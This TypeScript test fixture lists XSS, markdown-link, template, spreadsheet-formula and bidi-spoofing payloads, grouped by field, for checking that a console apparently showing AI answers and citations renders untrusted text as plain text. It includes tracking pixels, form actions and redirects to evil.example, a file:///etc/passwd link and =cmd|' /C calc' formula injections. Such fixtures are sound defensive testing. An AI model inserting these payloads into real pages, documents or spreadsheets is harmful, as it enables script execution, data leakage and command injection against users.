// Texts that would run, load or mislead if the console took them for more than text: with what a reader must see
// of them, where that is not the text itself.

export type Payload = string | readonly [given: string, seen: string];
export const given = (payload: Payload) => (typeof payload === 'string' ? payload : payload[0]);
export const seen = (payload: Payload) => (typeof payload === 'string' ? payload : payload[1]);

const EVIL = 'https://evil.example';

/** HTML in answers: shown as it is written. */
export const html: readonly Payload[] = [
  '<script>alert(1)</script>',
  `<script src=${EVIL}/x.js></script>`,
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  '\'"></style></script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  `<img src="${EVIL}/pixel.png">`,
  `<img srcset="${EVIL}/pixel.png 2x">`,
  '<img src=x onerror=&#97;lert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>click</text></a></svg>',
  `<svg><use href="${EVIL}/x.svg#y"/></svg>`,
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  `<embed src="${EVIL}/x.swf">`,
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  `<video poster="${EVIL}/p.png"></video>`,
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  `<form action="${EVIL}"><button>Send</button></form>`,
  '<button formaction=javascript:alert(1)>go</button>',
  '<a href="javascript:alert(1)">click</a>',
  `<a href="${EVIL}" ping="${EVIL}/p">ping</a>`,
  '<a/onmouseover=alert(1)>over</a>',
  `<base href="${EVIL}/">`,
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<div style="background:url(${EVIL}/x)">styled</div>`,
  '<div style="position:fixed;inset:0">over all</div>',
  '<div id=root class=root data-mention=0>clobbered</div>',
  '<marquee onstart=alert(1)>',
  '<isindex action=javascript:alert(1) type=image>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title></title><script>alert(1)</script>',
  '<x onclick=alert(1)>x</x>',
  '<dialog open>alert</dialog>',
];

/** HTML that swallows what follows, up to its end: each in an answer of its own. */
export const openEnded: readonly Payload[] = [
  `<style>body{background:url(${EVIL}/x)}</style>`,
  '<textarea></textarea><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<script>alert(1)//',
  '<pre><img src=x onerror=alert(1)>',
  ['```html\n<script>alert(1)</script>\n```', '<script>alert(1)</script>'],
];

/** Markdown and references to characters. */
export const markdown: readonly Payload[] = [
  ['&lt;script&gt;alert(1)&lt;/script&gt;', '<script>alert(1)</script>'],
  ['&#60;img src=x onerror=alert(1)&#62;', '<img src=x onerror=alert(1)>'],
  ['&#x3C;svg onload=alert(1)&#x3E;', '<svg onload=alert(1)>'],
  ['&NotThere; &amp;lt;b&amp;gt;', '&NotThere; &lt;b&gt;'],
  ['[a](javascript:alert(1))', 'a (javascript:alert(1))'],
  ['[b](JaVaScRiPt:alert(1))', 'b (JaVaScRiPt:alert(1))'],
  ['[c](java\nscript:alert(1))', '[c](java script:alert(1))'],
  ['[d](<java script:alert(1)>)', 'd (java script:alert(1))'],
  ['[e](&#106;avascript:alert(1))', 'e (javascript:alert(1))'],
  ['[f](javascript&colon;alert(1))', 'f (javascript:alert(1))'],
  '[g](\x01javascript:alert(1))',
  ['[h](data:text/html,<script>alert(1)</script>)', 'h (data:text/html,<script>alert(1)</script>)'],
  [
    '[i](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    'i (data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  ],
  ['[j](vbscript:msgbox(1))', 'j (vbscript:msgbox(1))'],
  ['[k](file:///etc/passwd)', 'k (file:///etc/passwd)'],
  [`[l](blob:${EVIL}/1)`, `l (blob:${EVIL}/1)`],
  ['[m](//evil.example/x)', 'm (//evil.example/x)'],
  ['[n](/account)', 'n (/account)'],
  ['[o](\\\\\\\\evil.example)', 'o (\\\\evil.example)'],
  ['[p](view-source:javascript:alert(1))', 'p (view-source:javascript:alert(1))'],
  ['[q](#user-content-fn-1)', 'q (#user-content-fn-1)'],
  [`[r](${EVIL} "onmouseover=alert(1)")`, 'r'],
  [`[s](https://bank.example@evil.example/)`, 's'],
  `[t](${EVIL}/" onmouseover="alert(1))`,
  [`[u](${EVIL}/%0Ajavascript:alert(1))`, 'u'],
  ['[v][v]\n\n[v]: javascript:alert(1)', 'v (javascript:alert(1))'],
  ['[w]\n\n[w]: data:text/html,alert', 'w (data:text/html,alert)'],
  ['<javascript:alert(1)>', 'javascript:alert(1)'],
  [`![pixel](${EVIL}/pixel.png)`, 'Picture: pixel'],
  [`![ref][gif]\n\n[gif]: ${EVIL}/track.gif`, 'Picture: ref'],
  ['![script](javascript:alert(1))', 'script (javascript:alert(1))'],
  '![svg](data:image/svg+xml,<svg onload=alert(1)>)',
  ['![base](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', 'base (data:image/svg+xml;base64,'],
  [`[![inner](${EVIL}/p.png)](javascript:alert(1))`, 'inner (javascript:alert(1))'],
  [`![](${EVIL}/nameless.png)`, `${EVIL}/nameless.png`],
  ['`<script>alert(1)</script>`', '<script>alert(1)</script>'],
  ['| <img src=x onerror=alert(1)> |\n|--|\n| [c](javascript:alert(2)) |', 'c (javascript:alert(2))'],
  ['- [ ] <input onfocus=alert(1) autofocus>', '<input onfocus=alert(1) autofocus>'],
  ['note[^1]\n\n[^1]: <script>alert("note")</script>', '<script>alert("note")</script>'],
  ['# <script>alert("head")</script>', '<script>alert("head")</script>'],
  ['> <img src=quote onerror=alert(1)>', '<img src=quote onerror=alert(1)>'],
  ['1. [x](javascript:alert(3))', 'x (javascript:alert(3))'],
  ['~~<b onclick=alert(1)>struck</b>~~', '<b onclick=alert(1)>struck</b>'],
  `javascript:alert(1)//${EVIL}`,
  'www.evil.example/"><script>alert(1)</script>',
  'a@evil.example?subject=<script>alert(1)</script>',
  "{{constructor.constructor('alert(1)')()}}",
  '$' + '{alert(1)} #{alert(1)} <%= alert(1) %>',
  '\u202Egnp.exe\u202C turned',
  `\u2066\u202E${EVIL}\u2069`,
  'java\u200Bscript:alert(1)',
];

/** Questions. */
export const prompts: readonly string[] = [
  '<script>alert("prompt")</script>',
  '<img src=x onerror=alert("prompt")>',
  '"><svg onload=alert("prompt")>',
  "' onmouseover='alert(1)",
  '</title><script>alert("title")</script>',
  '</bdi></a></td><script>alert(1)</script>',
  'javascript:alert("prompt")',
  '[click](javascript:alert(1))',
  `![pixel](${EVIL}/prompt.png)`,
  '&lt;img src=x onerror=alert(1)&gt;',
  '../../../account?prompt=1#x',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\u202Ewohs\u202C turned prompt',
  '=HYPERLINK("https://evil.example","free")',
  '+1+cmd|calc',
  '-1-1',
  '@SUM(1+1)',
];

/** Names of brands and competitors. */
export const names: readonly string[] = [
  '<img src=x onerror=alert("name")>',
  '"><svg onload=alert("name")>',
  "'-alert(1)-'",
  '</title><script>alert("name")</script>',
  'javascript:alert("name")',
  '<b>Bold</b> Co',
  '&lt;i&gt;Entity',
  '{{7*7}}',
  '\u202EnrocigaM',
  "=cmd|' /C calc'!A0",
];

export const tags: readonly string[] = [
  '<img src=x onerror=alert("tag")>',
  '"><script>alert("tag")</script>',
  '=1+1',
  '@tag',
  "-2+3+cmd|' /C calc'!A0",
  'a,b&tag=c#d',
  '\u202Egat',
  'javascript:alert("tag")',
];

/** What is no domain: refused by the service, and told as text. */
export const domains: readonly string[] = [
  'javascript:alert(1)',
  'evil.example/<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'evil.example"onload="alert(1)',
  'data:text/html,x',
];

/** Citations: an address and a title. */
export const citations: readonly { url: string; title: string }[] = [
  { url: `${EVIL}/1`, title: '<img src=x onerror=alert("title")>' },
  { url: `${EVIL}/2"><script>alert(1)</script>`, title: '"><svg onload=alert("title")>' },
  { url: `${EVIL}/3?<script>alert(1)</script>`, title: '[click](javascript:alert(1))' },
  { url: 'javascript:alert("cited")', title: 'javascript title' },
  { url: 'data:text/html,<script>alert("cited")</script>', title: 'data title' },
  { url: 'JAVASCRIPT://evil.example/%0Aalert(1)', title: 'mixed title' },
  { url: `${EVIL}/4`, title: '\u202Eeltit' },
  { url: `${EVIL}/5`, title: '=HYPERLINK("https://evil.example")' },
  { url: 'https://evil.example:80@other.example/6', title: 'user title' },
  { url: 'https://xn--80ak6aa92e.example/7', title: 'look-alike title' },
];

/** How many there are in all. */
export const all: readonly (Payload | { url: string })[] = [
  ...[html, openEnded, markdown, prompts, names, tags, domains, citations].flat(),
];
